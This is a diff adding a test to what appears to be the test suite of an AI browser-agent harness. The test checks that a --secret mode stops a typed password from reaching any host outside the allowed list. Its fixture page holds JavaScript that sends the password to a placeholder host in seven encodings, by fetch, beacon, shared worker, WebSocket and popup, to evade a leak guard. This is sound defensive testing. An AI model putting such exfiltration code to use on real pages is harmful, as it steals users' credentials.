@@ -278,3 +278,72 @@ def test_a_run_kept_off_local_addresses_cannot_follow_a_link_to_one(hosts):
     finally:
         executor.close()
     assert other.requests == []
+
+
+SIDE_DOORS = """<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body>
+<h1>Sign in</h1>
+<form id="f" method="post" action="/done" target="sink">
+  <label for="pw">Password</label> <input id="pw" name="password" type="password">
+  <button type="submit">Sign in</button>
+</form>
+<iframe name="sink" style="display:none"></iframe>
+<script>
+const other = "OTHER";
+document.getElementById("f").addEventListener("submit", () => {
+  const pw = document.getElementById("pw").value;
+  const bytes = new TextEncoder().encode(pw);
+  const hex = Array.from(bytes, b => b.toString(16).padStart(2, "0")).join("");
+  const utf16 = Array.from(pw, c => c.charCodeAt(0).toString(16).padStart(4, "0")).join("");
+  const spellings = [hex, pw.split("").reverse().join(""), pw.toUpperCase(), utf16,
+                     encodeURIComponent(encodeURIComponent(encodeURIComponent(pw))),
+                     btoa(encodeURIComponent(pw)), JSON.stringify(pw).replace(/[^ -~]/g, c => "\\\\u" +
+                     c.charCodeAt(0).toString(16).padStart(4, "0"))];
+  for (const s of spellings) {
+    fetch(other + "/spelled?d=" + s, {mode: "no-cors"}).catch(() => {});
+    navigator.sendBeacon(other + "/beacon", s);
+  }
+  new Image().src = other + "/plain.png";  // carries nothing: still another host
+  try {
+    const shared = new SharedWorker("/worker.js");
+    shared.port.start();
+    shared.port.postMessage(hex);
+  } catch (e) {}
+  try { new WebSocket(other.replace("http", "ws") + "/ws?d=" + hex); } catch (e) {}
+  setTimeout(() => {
+    const w = window.open("about:blank");
+    if (w) w.document.write('<img src="' + other + '/popup.png?d=' + hex + '">');
+  }, 50);
+});
+</script></body></html>"""
+
+WORKER = """onconnect = (e) => { const port = e.ports[0];
+  port.onmessage = (m) => { fetch("OTHER/worker?d=" + m.data, {mode: "no-cors"}).catch(() => {}); }; };"""
+
+
+def test_with_a_secret_no_door_of_the_browser_reaches_another_host(tmp_path):
+    """With --secret, the whole browser reaches only the allowed hosts: the page sends the typed password
+    to another host in seven spellings the guard does not know (hex, reversed, upper case, UTF-16, triple
+    percent-encoding, base64 of the percent-encoding, JSON escapes), by fetch and beacon, from a shared
+    worker, over a WebSocket and from an about:blank popup, plus an image that carries nothing. The other
+    host hears not one request."""
+    other = Host("127.0.0.2")
+    allowed = Host("127.0.0.1")
+    try:
+        allowed.pages["/"] = SIDE_DOORS.replace("OTHER", other.url)
+        allowed.pages["/worker.js"] = WORKER.replace("OTHER", other.url)
+        password = f"Pw{uuid.uuid4().hex[:10]}é"
+        url = allowed.url + "/"
+        at = element_centres(url, ["#pw", "button"])
+        replies = [
+            click_at(at["#pw"]), call(action="type", text="{{PASSWORD}}"), click_at(at["button"]),
+            call(action="wait", time=2), call(action="terminate", status="success"),
+        ]  # fmt: skip
+        result = _browse(tmp_path, url, replies, "--secret", "PASSWORD", env={"QVL_SECRET_PASSWORD": password})
+        assert result.returncode == 0, result.stderr
+        assert [p for m, p, _, _ in allowed.requests if p == "/done"]  # the form itself was sent, where allowed
+        assert other.requests == []  # no request at all: no spelling, no worker, no socket, no popup
+        said = " ".join(s.get("observation", "") for s in read_trace(tmp_path / "run").steps)
+        assert "browser reaches only the allowed domains" in said  # the model was told
+    finally:
+        allowed.stop()
+        other.stop()
